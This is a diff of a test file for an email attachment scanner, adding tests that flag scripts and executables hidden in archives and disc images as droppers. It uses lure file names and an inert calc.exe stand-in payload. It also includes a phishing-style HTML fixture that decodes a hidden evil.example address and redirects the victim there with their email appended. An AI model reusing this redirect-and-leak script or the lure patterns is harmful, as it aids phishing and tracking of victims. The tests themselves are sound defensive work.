@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 import os
 
 import pytest
@@ -70,8 +71,69 @@ async def test_bad_names_inside_archives_recursively():
 async def test_many_bad_files_score_once():
     archive = files.zip_bytes({f"tool{i}.exe": files.pe_exe() for i in range(10)})
     result = await scan_files(("tools.zip", archive))
-    assert [s.name for s in result.symbols] == ["MIME_BAD_EXTENSION"]
+    assert [s.name for s in result.symbols] == ["MIME_BAD_EXTENSION", "ARCHIVED_EXECUTABLE"]
     assert detail(result, "MIME_BAD_EXTENSION").endswith("(and 7 more)")
+    assert detail(result, "ARCHIVED_EXECUTABLE").endswith("(and 7 more)")
+
+
+# -- programs and scripts packed in archives and disc images: droppers ---------------
+
+
+DROPPER = b"WScript.CreateObject('WScript.Shell').Run('calc.exe');\r\n"  # inert stand-in for a downloader
+
+
+@pytest.mark.parametrize("name", ["Payment_details.js", "scan.jse", "invoice.vbs", "order.vbe", "doc.wsf", "fax.hta",
+                                  "update.ps1", "run.bat", "run.cmd", "screen.scr", "setup.exe", "setup.msi",
+                                  "Contrat.pdf.lnk", "tool.jar"])
+async def test_program_or_script_in_a_zip_is_malware(name):
+    result = await scan_files(("Payment_details.zip", files.zip_bytes({name: DROPPER})))
+    assert result.verdict is Verdict.MALWARE
+    assert detail(result, "ARCHIVED_EXECUTABLE") == f"Payment_details.zip/{name}"
+
+
+async def test_script_in_a_gzip_or_7z_or_password_protected_zip_is_malware():
+    for name, archive in [("invoice.js.gz", gzip.compress(DROPPER)),
+                          ("invoice.7z", files.seven_zip({"invoice.js": DROPPER})),
+                          ("invoice.zip", files.aes_zip({"invoice.js": DROPPER}))]:
+        result = await scan_files((name, archive))
+        assert "ARCHIVED_EXECUTABLE" in names(result) and result.verdict is Verdict.MALWARE, name
+
+
+async def test_executable_in_an_iso_is_malware():
+    image = files.iso_with({"DHL_AWB_7734120985.exe": files.pe_exe()})
+    result = await scan_files(("DHL_AWB_7734120985.iso", image))
+    assert {"DISK_IMAGE_ATTACHMENT", "MIME_BAD_EXTENSION", "ARCHIVED_EXECUTABLE"} <= names(result)
+    assert detail(result, "ARCHIVED_EXECUTABLE") == "DHL_AWB_7734120985.iso/DHL_AWB_7734120985.exe"
+    assert result.verdict is Verdict.MALWARE
+
+
+async def test_iso_of_documents_is_only_a_disk_image():
+    image = files.iso_with({"Invoice.pdf": files.plain_pdf(), "photos/site.png": files.plain_png()})
+    result = await scan_files(("documents.iso", image))
+    assert names(result) == {"DISK_IMAGE_ATTACHMENT"}
+    assert result.verdict is not Verdict.MALWARE
+
+
+async def test_program_attached_on_its_own_is_risky_not_malware():
+    result = await scan_files(("setup.exe", files.pe_exe()), ("deploy.ps1", b"Write-Host 1"))
+    assert "ARCHIVED_EXECUTABLE" not in names(result) and result.verdict is Verdict.SPAM
+
+
+async def test_library_in_a_software_bundle_is_not_a_dropper():
+    result = await scan_files(("plugin.zip", files.zip_bytes({"plugin/helper.dll": files.pe_exe(),
+                                                              "plugin/README.txt": b"Copy to the plugins folder."})))
+    assert "ARCHIVED_EXECUTABLE" not in names(result) and result.verdict is not Verdict.MALWARE
+
+
+async def test_everyday_attachments_are_not_droppers():
+    docx = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
+    invite = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+    export = files.zip_bytes({"export/sales.csv": b"month,total\n1,2\n", "export/notes.txt": b"minutes",
+                              "export/photos/site.png": files.plain_png(),
+                              "export/photos/plan.jpg": b"\xff\xd8\xff\xe0"})
+    result = await scan_files(("report.pdf", files.plain_pdf()), ("letter.docx", docx), ("invite.ics", invite),
+                              ("export.zip", export))
+    assert result.symbols == [] and result.verdict is Verdict.CLEAN
 
 
 async def test_ordinary_documents_raise_nothing():
@@ -224,6 +286,15 @@ async def test_html_smuggling_attachment_is_malware():
 async def test_html_attachment_that_redirects():
     page = b'<html><head><meta http-equiv="refresh" content="0;URL=https://evil.example/doc"></head></html>'
     assert detail(await scan_files(("fax.html", page)), "HTML_REDIRECT") == "fax.html → https://evil.example/doc"
+
+
+async def test_html_attachment_that_redirects_to_a_decoded_address():
+    target = base64.b64encode(b"https://voicemail.evil.example/vm/?id=").decode()
+    page = (f'<html><body><p>Loading your voice message...</p><script>var e = "alice@example.com";'
+            f'var t = atob("{target}");'
+            f'setTimeout(function() {{ window.location.href = t + btoa(e); }}, 300);</script></body></html>')
+    result = await scan_files(("VM_Message_0047_audio.htm", page.encode()))
+    assert detail(result, "HTML_REDIRECT") == "VM_Message_0047_audio.htm → https://voicemail.evil.example/vm/?id="
 
 
 async def test_svg_with_script():
